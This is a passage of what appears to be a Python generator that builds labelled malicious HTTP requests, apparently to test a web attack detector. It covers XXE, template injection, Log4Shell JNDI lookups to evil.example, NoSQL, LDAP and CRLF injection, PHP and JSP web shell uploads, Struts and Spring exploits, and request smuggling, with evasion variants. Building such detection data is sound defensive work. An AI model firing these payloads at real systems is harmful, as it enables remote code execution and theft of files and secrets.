        '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "netdoc:///etc/passwd">]><x>&xxe;</x>',
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "jar:http://203.0.113.7/a.zip!/b">]><x>&xxe;</x>',
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "gopher://127.0.0.1:6379/_INFO">]><x>&xxe;</x>',
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "/proc/self/environ">]><x>&xxe;</x>',
        '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE soap [<!ENTITY xxe SYSTEM "file:///etc/hosts">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><getUser><id>&xxe;</id></getUser></soap:Body></soap:Envelope>',
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % remote SYSTEM "ftp://203.0.113.7/x.dtd">%remote;]><x/>',
        '<?xml version="1.0"?><!doctype x [<!entity xxe system "file:///etc/passwd">]><x>&xxe;</x>',
        '<?xml version="1.0"?><!DOCTYPE  x  [ <!ENTITY\txxe\tSYSTEM\t"file:///etc/passwd" > ]><x>&xxe;</x>',
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
        '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>',
    ]
    evs = {4: "billion-laughs", 8: "parameter-entity-oob", 9: "xinclude", 16: "lowercase-doctype", 17: "whitespace-tab",
           18: "declared-utf16"}
    uris = ["/api/v1/orders.xml", "/soap/UserService", "/api/v1/import", "/xmlrpc.php", "/api/v1/feeds"]
    ctypes = ["application/xml", "text/xml", "application/soap+xml"]
    for i, d in enumerate(docs):
        h = s.h(**{"Content-Type": ctypes[i % 3]})
        s.add(C, make("POST", uris[i % len(uris)], h, d), "xml", evs.get(i, "none"))
    # XML sent with a non-XML content type, a multipart SVG upload, a query parameter, a JSON string
    for i, d in enumerate(docs[:6]):
        h = s.h(**{"Content-Type": "text/plain"})
        s.add(C, make("POST", "/api/v1/import", h, d), "body:text/plain", "content-type-mismatch")
    for i, d in enumerate(docs[:5]):
        h = s.h(**{"Content-Type": "application/json"})
        s.add(C, make("POST", "/api/v1/import", h, d), "body:json-ct", "content-type-mismatch")
    s.multipart_file(C, "logo.svg", docs[19], ctype="image/svg+xml", location="multipart:file")
    s.multipart_file(C, "data.xml", docs[0], ctype="application/xml", location="multipart:file")
    s.multipart_field(C, docs[0])
    s.query(C, docs[0], param="xml", path="/api/v1/parse")
    s.query(C, wire=double_pct(docs[0]), param="xml", path="/api/v1/parse", evasion="double-urlencode")
    s.form(C, docs[1], field="payload", uri="/api/v1/parse")
    s.json_raw(C, json_body({"format": "xml", "document": docs[0]}), uri="/api/v1/convert")
    s.json_raw(C, json_body({"format": "xml", "document": docs[3]}), uri="/api/v1/convert")
    s.cookie(C, docs[0], name="xmlstate")
    h = s.h(**{"Content-Type": "application/xml"})
    s.add(C, make("POST", "/api/v1/orders.xml", h,
                  '<?xml version="1.0"?>\n<!DOCTYPE order [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<order>\n  <note>&xxe;</note>\n</order>\n'),
          "xml", "whitespace-newline")
    utf16 = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>')
    import base64
    h = s.h(**{"Content-Type": "application/xml"})
    r = make("POST", "/api/v1/orders.xml", h, body_b64=base64.b64encode(utf16.encode("utf-16")).decode())
    s.add(C, r, "xml", "utf16-body")


def ssti(s):
    C = "ssti"
    base = [
        "{{7*7}}", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "${7*7}", "<%= 7*7 %>", "#{7*7}",
        "{{''.__class__.__mro__[1].__subclasses__()}}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')", "{php}echo `id`;{/php}",
        "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
        "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "*{T(java.lang.Runtime).getRuntime().exec('id')}",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "{{lipsum.__globals__.os.popen('id').read()}}",
        "{{cycler.__init__.__globals__.os.popen('id').read()}}", "${{<%[%'\"}}%\\.", "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
        "<%= system('id') %>", "#{T(java.lang.System).getenv()}", "${T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}",
        "{{ '' | attr('__class__') | attr('__mro__') }}", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
        "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}", "{{#with \"s\" as |string|}}{{#with string.split as |conslist|}}{{/with}}{{/with}}",
        "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))", "{{config.items()}}", "${class.getResource(\"\").getPath()}",
        "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}", "{{get_flashed_messages.__globals__['current_app'].config}}",
    ]
    evs = {28: "hex-escape-attr", 21: "filter-chain"}
    params = ["name", "template", "q", "greeting", "preview"]
    for i, p in enumerate(base):
        s.query(C, p, param=params[i % len(params)], path="/api/v1/render", evasion=evs.get(i, "none"))
    for i, p in enumerate(base[:10]):
        [s.form, s.json, s.cookie, s.xml, s.multipart_field][i % 5](C, p)
    s.json_raw(C, json_body({"email_template": {"subject": "Hi {{user.name}}", "body": "{{''.__class__.__mro__[1].__subclasses__()[408]('id',shell=True,stdout=-1).communicate()}}"}}),
               uri="/api/v1/templates")
    s.header(C, "User-Agent", "{{7*'7'}}")
    s.header(C, "Referer", "https://example.com/${T(java.lang.Runtime).getRuntime().exec('id')}")
    s.query(C, wire=double_pct("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"), param="name",
            path="/api/v1/render", evasion="double-urlencode")
    s.query(C, wire=u_encode("{{7*7}}"), param="name", path="/api/v1/render", evasion="%u")
    s.query(C, "{{ConFig.__CLASS__}}", param="name", path="/api/v1/render", evasion="case")
    s.query(C, "{{\tconfig\t}}", param="name", path="/api/v1/render", evasion="whitespace-tab")
    s.query(C, "{{''['__cla'+'ss__']['__mr'+'o__']}}", param="name", path="/api/v1/render", evasion="concat")
    s.path(C, pct("{{7*7}}"), prefix="/api/v1/greet/")
    s.query(C, wire=fullwidth("{{7*7}}"), param="name", path="/api/v1/render", evasion="fullwidth")


def jndi(s):
    C = "jndi"
    base = [
        "${jndi:ldap://203.0.113.7:1389/a}", "${jndi:rmi://203.0.113.7:1099/Exploit}", "${jndi:dns://evil.example/x}",
        "${jndi:ldaps://evil.example/a}", "${jndi:iiop://evil.example/a}", "${jndi:corba://evil.example/a}", "${jndi:nds://evil.example/a}",
        "${jndi:http://evil.example/a}", "${jndi:ldap://${env:USER}.evil.example/a}", "${jndi:ldap://${sys:java.version}.evil.example/a}",
        "${jndi:ldap://${hostName}.evil.example/a}", "${jndi:ldap://127.0.0.1#evil.example:1389/a}",
    ]
    evasive = [
        ("${${lower:j}ndi:ldap://evil.example/a}", "nested-lower"), ("${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://evil.example/a}", "nested-upper"),
        ("${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}", "nested-default"), ("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}", "nested-env-default"),
        ("${j${k8s:k5:-ND}i:ldap://evil.example/a}", "nested-k8s"), ("${${lower:jnd}${lower:i}:${lower:ldap}://evil.example/a}", "nested-lower"),
        ("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}", "nested-date"), ("${jNdI:LdAp://evil.example/a}", "case"),
        ("${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://evil.example/a}", "nested-main-spring"), ("${${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}}", "base64-lookup"),
        ("${${::-${::-$${::-j}}}}", "recursive-default"), ("${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}", "nested-protocol"),
        ("${${sys:os.name:-j}ndi:ldap://evil.example/a}", "nested-sys"), ("${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//evil.example/a}", "nested-env-default"),
        ("$\\u007bjndi:ldap://evil.example/a}", "json-unicode-escape"),
    ]
    heads = ["User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For", "Authorization", "X-Request-Id", "Accept-Language", "Origin"]
    for i, p in enumerate(base):
        s.header(C, heads[i % len(heads)], p)
    for i, p in enumerate(base[:8]):
        [lambda v: s.query(C, v, param="q"), lambda v: s.form(C, v), lambda v: s.json(C, v), lambda v: s.cookie(C, v),
         lambda v: s.xml(C, v), lambda v: s.multipart_field(C, v), lambda v: s.path(C, pct(v), prefix="/api/v1/search/"),
         lambda v: s.json_raw(C, json_body({"event": {"message": v}}), uri="/api/v1/logs")][i](p)
    for i, (p, ev) in enumerate(evasive):
        if i % 3 == 0:
            s.header(C, heads[i % len(heads)], p, evasion=ev)
        elif i % 3 == 1:
            s.query(C, p, param="q", evasion=ev)
        else:
            s.json(C, p, evasion=ev)
    s.query(C, wire=double_pct("${jndi:ldap://evil.example/a}"), param="q", evasion="double-urlencode")
    s.query(C, wire=u_encode("${jndi:ldap://evil.example/a}"), param="q", evasion="%u")
    s.query(C, wire=pct_all("${jndi:ldap://evil.example/a}"), param="q", evasion="percent-all")
    s.header(C, "User-Agent", "Mozilla/5.0 ${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:l}${lower:d}${lower:a}${lower:p}://evil.example/x}",
             evasion="nested-lower-upper")
    s.header(C, "Cookie", "JSESSIONID=${jndi:ldap://evil.example/a}", evasion="none")
    s.json_raw(C, '{"username":"$\\u007bjndi:ldap://evil.example/a\\u007d","password":"x"}', uri="/api/v1/login", evasion="json-unicode-escape")
    s.query(C, wire=fullwidth("${jndi:ldap://evil.example/a}"), param="q", evasion="fullwidth")
    s.header(C, "X-Api-Version", "${jndi:ldap://evil.example/a}", uri="/api/v1/status")
    s.form(C, "${${lower:j}ndi:${lower:r}mi://evil.example/a}", field="username", uri="/login", evasion="nested-lower")


def nosqli(s):
    C = "nosqli"
    jsons = [
        '{"username":{"$ne":null},"password":{"$ne":null}}', '{"username":"admin","password":{"$gt":""}}',
        '{"username":{"$regex":"^adm"},"password":{"$ne":"x"}}', '{"$where":"sleep(5000)"}', '{"$where":"this.password.match(/.*/)"}',
        '{"username":{"$in":["admin","root","administrator"]},"password":{"$ne":""}}', '{"filter":{"$or":[{"role":"admin"},{"1":"1"}]}}',
        '{"email":{"$exists":true},"password":{"$nin":[]}}', '{"query":{"price":{"$lt":0}},"$where":"return true"}',
        '{"username":"admin","password":{"$regex":".*"}}', '{"user":{"$eq":"admin"},"token":{"$ne":"invalid"}}',
        '{"search":{"$expr":{"$function":{"body":"function(){return sleep(5000)}","args":[],"lang":"js"}}}}',
        '{"pipeline":[{"$lookup":{"from":"users","localField":"x","foreignField":"y","as":"u"}}]}',
        '{"id":{"$gt":0},"$comment":"dump"}', '{"username":{"$not":{"$type":2}},"password":{"$ne":1}}',
        '{"where":"function(){return this.isAdmin == true || 1==1}"}',
    ]
    for i, j in enumerate(jsons):
        s.json_raw(C, j, uri=["/api/v1/login", "/api/v1/users/search", "/api/v1/products/find"][i % 3])
    qs = [
        "username[$ne]=x&password[$ne]=x", "username=admin&password[$gt]=", "user[$regex]=^a&pass[$ne]=1", "id[$where]=sleep(5000)",
        "login[$nin][]=admin&login[$nin][]=test&pass[$ne]=x", "email[$exists]=true", "price[$lt]=0&$where=1", "q[$regex]=.*",
        "username=admin%27%2C%20%24where%3A%20%271%3D%3D1", "filter=%7B%22%24ne%22%3A1%7D", "role[$in][]=admin", "token[$type]=2",
    ]
    for i, q in enumerate(qs):
        s.add(C, make("GET", "/api/v1/users?" + q, s.h()), "query")
    for i, q in enumerate(qs[:6]):
        h = s.h(**{"Content-Type": "application/x-www-form-urlencoded"})
        s.add(C, make("POST", "/login", h, q), "form")
    s.query(C, "'; return true; var x='", param="user", path="/api/v1/users")
    s.query(C, "' || '1'=='1", param="user", path="/api/v1/users")
    s.query(C, "1; while(true){}", param="id", path="/api/v1/users")
    s.query(C, "'||this.password.length>0||'", param="user", path="/api/v1/users")
    s.cookie(C, '{"$ne":null}', name="user_filter")
    s.header(C, "X-Filter", '{"owner":{"$ne":null}}')
    # evasions
    s.add(C, make("GET", "/api/v1/users?username%5B%24ne%5D=x&password%5B%24ne%5D=x", s.h()), "query", "urlencode-brackets")
    s.add(C, make("GET", "/api/v1/users?username%255B%2524ne%255D=x", s.h()), "query", "double-urlencode")
    s.json_raw(C, '{"username":{"\\u0024ne":null},"password":{"\\u0024ne":null}}', uri="/api/v1/login", evasion="json-unicode-escape")
    s.json_raw(C, '{"username":{"$NE":null},"password":{"$Gt":""}}', uri="/api/v1/login", evasion="case")
    s.json_raw(C, '{\n  "username" : { "$ne" :\tnull },\n  "password" : { "$ne" : null }\n}', uri="/api/v1/login", evasion="whitespace")
    s.json_raw(C, '{"a":{"b":{"c":{"d":{"user":{"$where":"sleep(100)"}}}}}}', uri="/api/v1/login", evasion="deep-nesting")
    s.json_raw(C, '{"$where":"this[\'pass\'+\'word\'].length>0"}', uri="/api/v1/login", evasion="concat")
    s.add(C, make("GET", "/api/v1/users?username[%24ne]=x", s.h()), "query", "partial-urlencode")
    h = s.h(**{"Content-Type": "application/x-www-form-urlencoded"})
    s.add(C, make("POST", "/login", h, "username[$regex]=.%2A&password[$regex]=.%2A"), "form", "urlencode-star")


def ldapi(s):
    C = "ldapi"
    base = [
        "*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectclass=*)", "admin)(|(password=*))", "*)(cn=*))\x00", "*()|&'",
        "admin*)((|userPassword=*)", "*)(&(objectClass=user)(description=*)", "x)(|(cn=*)(sn=*)", "*)(uid=*))(|(uid=*)(userPassword=*",
        "admin)(!(&(1=0", "*))%00", "jdoe)(|(memberOf=cn=admins,ou=groups,dc=example,dc=com)", "*)(objectClass=*))(&(objectClass=void",
        "*)(|(mail=*)(telephoneNumber=*))", "(&(uid=*)(userPassword=*))", "*)(ou=*))(|(ou=*", ")(&(objectCategory=person)(objectClass=user)(!(cn=x",
        "*)(sAMAccountName=*", "admin)(userAccountControl:1.2.840.113556.1.4.803:=2",
    ]
    params = ["user", "username", "login", "cn", "uid"]
    for i, p in enumerate(base):
        s.query(C, p, param=params[i % len(params)], path="/api/v1/directory/search")
    for i, p in enumerate(base[:12]):
        [lambda v: s.form(C, v, field="username", uri="/login"), lambda v: s.json(C, v), lambda v: s.cookie(C, v), lambda v: s.xml(C, v),
         lambda v: s.json_raw(C, json_body({"ldap": {"filter": {"user": v}}}), uri="/api/v1/directory/query"),
         lambda v: s.multipart_field(C, v)][i % 6](p)
    s.header(C, "X-Remote-User", "*)(uid=*))(|(uid=*")
    s.query(C, wire=double_pct("*)(uid=*))(|(uid=*"), param="user", path="/api/v1/directory/search", evasion="double-urlencode")
    s.query(C, wire=u_encode("*)(|(objectclass=*)"), param="user", path="/api/v1/directory/search", evasion="%u")
    s.query(C, "*)(OBJECTCLASS=*)", param="user", path="/api/v1/directory/search", evasion="case")
    s.query(C, "*)\t(uid=*))(|(uid=*", param="user", path="/api/v1/directory/search", evasion="whitespace-tab")
    s.query(C, "\\2a)(uid=\\2a))(|(uid=\\2a", param="user", path="/api/v1/directory/search", evasion="ldap-hex-escape")
    s.query(C, wire="admin%29%28%7C%28password%3D%2A%29%29", param="user", path="/api/v1/directory/search", evasion="urlencode")
    s.path(C, pct("*)(uid=*))(|(uid=*"), prefix="/api/v1/directory/users/")


def crlf(s):
    C = "crlf"
    wires = [
        "%0d%0aSet-Cookie:%20session=attacker", "%0d%0aLocation:%20http://evil.example", "%0aX-Injected:%20yes", "%0d%0a%0d%0a<script>alert(1)</script>",
        "%E5%98%8A%E5%98%8DSet-Cookie:%20x=y", "%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<html>pwned</html>",
        "%250d%250aSet-Cookie:%20x=y", "%u000d%u000aSet-Cookie:%20x=y", "%0D%0ASet-Cookie:%20admin=true", "%0d%0a%09Set-Cookie:%20x=y",
        "%5cr%5cnSet-Cookie:%20x=y", "%0dSet-Cookie:%20x=y", "%23%0d%0aSet-Cookie:x=y", "%3f%0d%0aLocation:%20//evil.example",
        "%c4%8d%c4%8aSet-Cookie:%20x=y", "%0d%0aAccess-Control-Allow-Origin:%20*", "%0d%0aX-XSS-Protection:%200%0d%0a%0d%0a<svg%20onload=alert(1)>",
        "%%0d0d%%0a0aSet-Cookie:%20x=y", "%0d%0a%20Set-Cookie:%20x=y", "%E2%80%A8Set-Cookie:%20x=y",
    ]
    evs = {4: "unicode-cjk-crlf", 6: "double-urlencode", 7: "%u", 10: "escaped-backslash", 11: "cr-only", 2: "lf-only",
           14: "overlong-like", 17: "nested-percent", 19: "unicode-line-separator", 8: "case"}
    params = ["redirect", "next", "lang", "return_to", "callback"]
    for i, w in enumerate(wires):
        s.query(C, wire="https://shop.example.com/" + w, param=params[i % len(params)], path="/login", evasion=evs.get(i, "none"))
    for i, w in enumerate(wires[:12]):
        s.path(C, w, prefix="/redirect/", evasion=evs.get(i, "none"))
    s.form(C, "en\r\nSet-Cookie: admin=1", field="lang", uri="/api/v1/settings")
    s.json(C, "ok\r\nX-Injected: 1")
    s.json_raw(C, json_body({"headers": {"X-Custom": "v\r\nSet-Cookie: sid=evil"}}), uri="/api/v1/webhooks/test")
    s.cookie(C, "en\r\nSet-Cookie: admin=1", name="lang")
    s.header(C, "Referer", "https://example.com/%0d%0aSet-Cookie:%20x=y")
    s.header(C, "X-Forwarded-Host", "example.com%0d%0aX-Injected:%201")
    s.header(C, "X-Redirect", "/home%0d%0aLocation: http://evil.example")
    s.multipart_field(C, "subject\r\nBcc: victims@example.com")
    s.form(C, "Hello\r\nBcc: everyone@example.com\r\nSubject: spam", field="subject", uri="/api/v1/contact", evasion="mail-header-injection")
    s.query(C, wire="x%0d%0aSet-Cookie%3A%20a%3Db", param="lang", evasion="encoded-colon")


def code(s):
    C = "code"
    base = [
        "<?php system($_GET['c']); ?>", "phpinfo()", "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='))", "assert($_REQUEST['x'])",
        "O:8:\"stdClass\":1:{s:4:\"test\";s:4:\"exec\";}", "a:2:{i:0;O:10:\"Monolog\\Handler\":0:{}}", "<?=`$_GET[0]`?>",
        "file_put_contents('s.php','<?php eval($_POST[1]);')", "preg_replace('/.*/e','system(\"id\")','')", "create_function('','system(\"id\");')",
        "call_user_func('system','id')", "${@print(md5(1))}", "include($_GET['f']);", "shell_exec('id')",
        "java.lang.Runtime.getRuntime().exec(\"id\")", "new java.lang.ProcessBuilder(\"id\").start()",
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAA",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di",
        "T(java.lang.Runtime).getRuntime().exec('id')", "javax.script.ScriptEngineManager", "java.lang.reflect.Method.invoke",
        "require('child_process').exec('id')", "process.mainModule.require('child_process').execSync('id')",
        "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()", "this.constructor.constructor('return process')().exit()",
        "global.process.binding('spawn_sync')", "__import__('os').system('id')", "eval(compile('import os;os.system(\"id\")','x','exec'))",
        "exec(\"import subprocess;subprocess.call(['id'])\")", "new Function('return this.process')().mainModule.require('fs').readFileSync('/etc/passwd')",
        "Object.prototype.polluted=1", "pickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")", "setTimeout('fetch(\"//evil.example\")',0)",
        "{\"__proto__\":{\"isAdmin\":true}}",
    ]
    params = ["code", "expr", "data", "callback", "filter", "input"]
    for i, p in enumerate(base):
        s.query(C, p, param=params[i % len(params)], path="/api/v1/eval")
    for i, p in enumerate(base[:12]):
        [s.form, s.json, s.cookie, s.xml, s.multipart_field, s.json][i % 6](C, p)
    s.add(C, make("GET", "/api/v1/users?__proto__[isAdmin]=true", s.h()), "query", "none")
    s.add(C, make("GET", "/api/v1/users?constructor[prototype][isAdmin]=true", s.h()), "query", "none")
    s.json_raw(C, '{"user":{"name":"x","__proto__":{"isAdmin":true}}}', uri="/api/v1/me", method="PATCH")
    s.json_raw(C, '{"constructor":{"prototype":{"shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/environ"}}}', uri="/api/v1/me", method="PATCH")
    s.header(C, "Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}", uri="/struts2/upload.action")
    s.header(C, "User-Agent", "<?php system('id'); ?>")
    s.header(C, "Referer", "https://example.com/?x=<?php eval($_POST[1]);?>")
    s.multipart_file(C, "shell.php", "<?php system($_GET['cmd']); ?>", ctype="application/x-php", location="multipart:file")
    s.multipart_file(C, "avatar.php.jpg", "GIF89a<?php eval($_POST['x']); ?>", ctype="image/jpeg", location="multipart:file")
    s.multipart_file(C, "shell.jsp", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>", ctype="application/octet-stream", location="multipart:file")
    h = s.h(**{"Content-Type": "application/x-www-form-urlencoded"})
    s.add(C, make("POST", "/tomcatwar.jsp", h,
                  "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"),
          "form", "none")
    # evasions
    s.query(C, "<?PhP SyStEm($_GET['c']); ?>", param="code", path="/api/v1/eval", evasion="case")
    s.query(C, wire=double_pct("<?php system('id'); ?>"), param="code", path="/api/v1/eval", evasion="double-urlencode")
    s.query(C, "sys'.'tem('id')", param="code", path="/api/v1/eval", evasion="concat")
    s.query(C, "$a='sys'.'tem';$a('id');", param="code", path="/api/v1/eval", evasion="variable-function")
    s.query(C, "('sy'.'stem')('id')", param="code", path="/api/v1/eval", evasion="concat")
    s.query(C, "eval/**/(base64_decode('aWQ='))", param="code", path="/api/v1/eval", evasion="comment")
    s.query(C, "require('child_'+'process').exec('id')", param="code", path="/api/v1/eval", evasion="concat")
    s.query(C, "global['pro'+'cess']['mainModule']['require']('child_process')", param="code", path="/api/v1/eval", evasion="concat")
    s.query(C, "__import__('o'+'s').popen('id').read()", param="code", path="/api/v1/eval", evasion="concat")
    s.query(C, wire=u_encode("<?php phpinfo(); ?>"), param="code", path="/api/v1/eval", evasion="%u")
    s.json_raw(C, '{"user":{"\\u005f\\u005fproto\\u005f\\u005f":{"isAdmin":true}}}', uri="/api/v1/me", evasion="json-unicode-escape", method="PATCH")
    s.query(C, "\"java.lang.Run\"+\"time\".getRuntime().exec('id')", param="expr", path="/api/v1/eval", evasion="concat")
    s.add(C, make("GET", "/api/v1/users?__pro__proto__to__[isAdmin]=true", s.h()), "query", "nested-keyword")
    s.add(C, make("GET", "/api/v1/users?%5F%5Fproto%5F%5F%5BisAdmin%5D=true", s.h()), "query", "urlencode")


def scanner(s):
    C = "scanner"
    uas = [
        "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
        "gobuster/3.6", "Fuzz Faster U Fool v2.1.0-dev", "Mozilla/5.0 zgrab/0.x", "Acunetix-Product: WVS/13.0", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; Netsparker)",
        "w3af.org", "Arachni/v1.5.1", "Wfuzz/3.1.0", "commix/v3.8-stable", "Havij", "jaeles", "Mozilla/5.0 (compatible; Burp Collaborator)",
        "OpenVAS-VT", "Nessus SOAP", "ZmEu", "Morfeus Fucking Scanner", "python-requests/2.31.0 XSStrike", "feroxbuster/2.10.1",
        "BlackWidow", "Hydra", "Paros/3.2.13", "WhatWeb/0.5.5", "httpx - Open-source project (github.com/projectdiscovery/httpx)",
    ]
    for i, ua in enumerate(uas):
        uri = ["/", "/api/v1/products?id=1", "/login", "/wp-login.php", "/admin/"][i % 5]
        h = base_headers(s.rng, ua=ua)
        s.add(C, make("GET", uri, h), "header:user-agent", "none")
    extra = [("Acunetix-Aspect", "enabled"), ("X-Scanner", "Netsparker"), ("Acunetix-Aspect-Password", "082119f75623eb7abd7bf357698ff66c"),
             ("X-Wvs-Id", "Acunetix-Deepscan/209"), ("Burp-Collaborator", "x.oastify.com")]
    for name, val in extra:
        s.header(C, name, val, uri="/api/v1/products")
    probes = ["/.git/config", "/.env", "/phpmyadmin/index.php", "/server-status", "/actuator/env", "/.aws/credentials", "/wp-config.php.bak",
              "/etc/passwd", "/.DS_Store", "/backup.sql", "/admin/config.php~", "/.svn/entries", "/WEB-INF/web.xml", "/cgi-bin/php-cgi",
              "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/owa/auth/logon.aspx?url=https%3a%2f%2f1%2fecp%2f", "/solr/admin/cores?action=STATUS",
              "/.well-known/../.env"]
    for p in probes:
        h = base_headers(s.rng, ua="Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0.4430.93 Safari/537.36")
        s.add(C, make("GET", p, h), "path", "none")
    h = base_headers(s.rng, ua="sQlMaP/1.7")
    s.add(C, make("GET", "/api/v1/products?id=1", h), "header:user-agent", "case")
    h = base_headers(s.rng, ua="Mozilla/5.0 (compatible; nikto)")
    s.add(C, make("GET", "/", h), "header:user-agent", "embedded")


def protocol(s):
    C = "protocol"
    std = lambda: base_headers(s.rng, ua=ATTACKER_UA)
    # request smuggling
    s.add(C, make("POST", "/api/v1/orders", header_list=[["Host", "api.example.com"], ["Content-Type", "application/json"],
                                                         ["Content-Length", "4"], ["Transfer-Encoding", "chunked"]],
                  body="0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"), "header:transfer-encoding", "cl-te")
    s.add(C, make("POST", "/api/v1/orders", header_list=[["Host", "api.example.com"], ["Content-Length", "6"], ["Content-Length", "5"],
                                                         ["Content-Type", "application/x-www-form-urlencoded"]], body="a=1&b"),
          "header:content-length", "duplicate-cl")
    s.add(C, make("POST", "/", header_list=[["Host", "api.example.com"], ["Transfer-Encoding", "chunked, identity"],
                                            ["Content-Type", "text/plain"]], body="5\r\nhello\r\n0\r\n\r\n"), "header:transfer-encoding", "te-obfuscation")
    s.add(C, make("POST", "/", header_list=[["Host", "api.example.com"], ["Transfer-Encoding", "xchunked"], ["Content-Type", "text/plain"]],
                  body="0\r\n\r\n"), "header:transfer-encoding", "te-obfuscation")
    s.add(C, make("POST", "/", header_list=[["Host", "api.example.com"], ["Transfer-Encoding", " chunked"], ["Transfer-Encoding", "identity"],
                                            ["Content-Type", "text/plain"]], body="0\r\n\r\n"), "header:transfer-encoding", "te-duplicate")
    s.add(C, make("GET", "/", header_list=[["Host", "api.example.com"], ["Content-Length", "-1"]]), "header:content-length", "negative-cl")
    s.add(C, make("GET", "/api/v1/products", header_list=[["Host", "api.example.com"], ["Content-Length", "abc"]]), "header:content-length", "non-numeric-cl")
    s.add(C, make("GET", "/api/v1/products", header_list=[["Host", "api.example.com"], ["Content-Length", "10"]], body="smuggled!!"),
          "body", "get-with-body")
    # host header problems
    s.add(C, make("GET", "/api/v1/products", header_list=[["User-Agent", ATTACKER_UA], ["Accept", "*/*"]]), "header:host", "missing-host")
    s.add(C, make("GET", "/api/v1/products", header_list=[["Host", "api.example.com"], ["Host", "evil.example"], ["Accept", "*/*"]]),
          "header:host", "duplicate-host")
    s.add(C, make("GET", "/", header_list=[["Host", ""], ["Accept", "*/*"], ["User-Agent", ATTACKER_UA]]), "header:host", "empty-host")
    h = std(); h["Host"] = "203.0.113.7"
    s.add(C, make("GET", "/", h), "header:host", "numeric-host")
    # methods
    for m in ["TRACE", "TRACK", "CONNECT", "PROPFIND", "DEBUG", "MOVE", "FOO"]:
        s.add(C, make(m, "/" if m != "CONNECT" else "api.example.com:443", std()), "method", "unusual-method")
    # bad encodings and bytes
    for w, ev in [("/api/v1/products?q=%zz%41", "invalid-percent"), ("/api/v1/products?q=abc%", "truncated-percent"),
                  ("/api/v1/products?q=%00", "null-byte"), ("/api/v1/products%00.json", "null-byte-path"),
